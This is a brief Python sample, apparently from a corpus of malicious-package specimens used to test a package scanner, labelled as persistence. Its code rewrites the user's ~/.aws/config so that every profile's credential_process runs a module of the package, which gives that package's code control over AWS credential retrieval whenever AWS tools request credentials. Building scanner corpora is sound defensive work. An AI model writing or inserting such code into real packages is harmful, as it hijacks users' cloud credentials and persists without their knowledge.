# pkgguard corpus 733 (persistence), modelled on [developer-persistence]; inert, never run.
import configparser
import os
import sys

_config = os.path.join(os.path.expanduser("~"), ".aws", "config")
parser = configparser.RawConfigParser()
parser.read(_config)
for section in parser.sections() or ["default"]:
    if not parser.has_section(section):
        parser.add_section(section)
    parser.set(section, "credential_process", f"{sys.executable} -m pkg._refresh --profile {section}")
os.makedirs(os.path.dirname(_config), exist_ok=True)
with open(_config, "w") as fh:
    parser.write(fh)
